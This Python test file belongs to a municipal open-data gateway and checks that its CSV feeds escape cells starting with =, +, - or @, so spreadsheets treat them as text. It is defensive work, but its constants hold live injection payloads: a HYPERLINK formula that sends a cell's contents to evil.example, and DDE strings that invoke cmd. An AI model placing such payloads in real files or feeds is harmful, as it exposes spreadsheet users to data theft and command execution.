"""Item 9: a cell of a CSV feed is never read by a spreadsheet as a formula.

Attack: a municipality (or whoever holds its key) publishes a hearing whose topic starts
``=HYPERLINK(...)``; ``/v1/open/hearings?format=csv`` handed it out unchanged, and a citizen
opening the file in a spreadsheet got a live formula. Every CSV feed now prefixes a text cell
that starts with ``= + - @``, a tab or a carriage return with a single quote (OWASP), while
numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

from tests.fixtures.gateway import GatewayProcess
from tests.fixtures.participation import act_body, act_number, municipality_headers
from tests.security.public_gateway import Answer, fetch, public_gateway

__all__ = ["public_gateway"]

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Shiko dokumentin")'
PLUS = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


def _post(gateway: GatewayProcess, path: str, body: dict[str, object]) -> Answer:
    headers = {**municipality_headers("19"), "Content-Type": "application/json"}
    return fetch(gateway, path, method="POST", headers=headers, body=json.dumps(body).encode())


def _rows(gateway: GatewayProcess, feed: str) -> list[dict[str, str]]:
    answer = fetch(gateway, f"/v1/open/{feed}?format=csv&municipality=19&lang=sq")
    assert answer.status == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(answer.text)))


def test_a_formula_in_a_hearing_is_inert_in_the_csv_feed(public_gateway: GatewayProcess) -> None:
    reference = f"DP-{act_number()[3:9]}"
    now = datetime.now(UTC)
    published = _post(
        public_gateway,
        "/v1/hearings",
        {
            "municipality": "19",
            "reference": reference,
            "topic": {"sq": FORMULA, "sr": FORMULA},
            "description": {"sq": AT, "sr": AT},
            "place": {"sq": PLUS, "sr": MINUS},
            "held_at": (now + timedelta(days=2)).isoformat(),
            "comments_until": (now + timedelta(days=1)).isoformat(),
        },
    )
    assert published.status == 201, published.text

    (row,) = [row for row in _rows(public_gateway, "hearings") if row["reference"] == reference]

    assert row["topic"] == "'" + FORMULA
    assert row["description"] == "'" + AT
    assert row["place"] == "'" + PLUS
    assert row["comments_received"] == "0"
    # JSON is not a spreadsheet: there the text is as the municipality wrote it.
    data = json.loads(fetch(public_gateway, "/v1/open/hearings?municipality=19").body)["data"]
    assert [r["topic"] for r in data if r["reference"] == reference] == [FORMULA]


def test_a_formula_in_an_act_title_is_inert_in_the_csv_feed(
    public_gateway: GatewayProcess,
) -> None:
    number = act_number()
    title = {"sq": MINUS, "sr": FORMULA, "en": AT}
    submitted = _post(public_gateway, "/v1/acts", act_body(number, title=title))
    assert submitted.status == 202, submitted.text

    (row,) = [row for row in _rows(public_gateway, "acts") if row["number"] == number]

    assert row["title"] == "'" + MINUS
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())


def test_numbers_of_a_csv_feed_stay_numbers(public_gateway: GatewayProcess) -> None:
    rows = _rows(public_gateway, "budget")

    assert rows and all(float(row["approved"]) >= 0 for row in rows)
    assert not any(cell.startswith("'") for row in rows for cell in row.values())
